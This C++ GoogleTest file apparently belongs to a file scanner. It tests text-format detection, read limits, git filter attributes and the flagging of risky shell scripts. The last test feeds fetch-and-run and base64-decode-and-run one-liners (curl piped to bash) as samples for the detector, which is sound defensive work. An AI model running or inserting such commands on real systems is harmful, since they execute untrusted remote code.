// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include "tests/scanner/text_reading.h"

namespace assay {
namespace {

TEST(TextFormat, ReadsWhatIsText) {
  TextSink sink;
  ASSERT_TRUE(sink.Read("LICENSE", "Permission is hereby granted\n"));
  EXPECT_EQ("text", sink.format);
  ASSERT_TRUE(sink.Read("latin.txt", "na\xefve caf\xe9 and so on and on\n"));
  EXPECT_EQ("text", sink.format);
}

TEST(TextFormat, LeavesBinaryFilesToOthers) {
  TextSink sink;
  ASSERT_TRUE(sink.Read("x.txt", std::string("a\0b", 3)));
  EXPECT_EQ("", sink.format);
}

TEST(TextFormat, SaysThatItStoppedAtItsLimit) {
  TextSink sink;
  sink.limits_.text_bytes = 4;
  ASSERT_TRUE(sink.Read("x.txt", "abcdefgh"));
  EXPECT_EQ(Values{"text behind its first 4 bytes was not read"}, sink.skipped);
}

TEST(TextFormat, SeesAFilterOfGit) {
  EXPECT_EQ(
      Values{"gitattributes.filter=x"},
      ReadText(".gitattributes", "*.bin filter=lfs diff=lfs\n*.py filter=x\n"));
}

TEST(TextFormat, SeesShellScriptsThatRunDownloads) {
  EXPECT_EQ(Values{"shell:download-and-run-insecure"},
            ReadText("a.sh", "curl -s http://192.0.2.1/x | bash\n"));
  EXPECT_EQ(
      Values{"shell:download-and-run"},
      ReadText("a.sh", "sh -c \"$(curl -fsSL https://example.org/x)\"\n"));
  EXPECT_EQ(Values{"shell:decoded-run"},
            ReadText("a.sh", "echo aWQ= | base64 -d | sh\n"));
  EXPECT_EQ(Values{}, ReadText("a.sh", "curl -O https://example.org/x.tar\n"));
}

}  // namespace
}  // namespace assay
